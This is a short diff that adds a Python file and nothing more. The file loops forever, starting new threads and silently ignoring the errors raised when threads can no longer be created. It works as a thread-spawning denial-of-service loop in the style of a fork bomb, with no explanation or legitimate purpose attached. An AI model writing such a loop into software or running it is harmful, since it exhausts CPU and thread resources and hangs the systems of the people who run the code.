@@ -1,0 +1,6 @@
+import threading
+while True:
+    try:
+        threading.Thread(target=lambda: None).start()
+    except RuntimeError:
+        pass
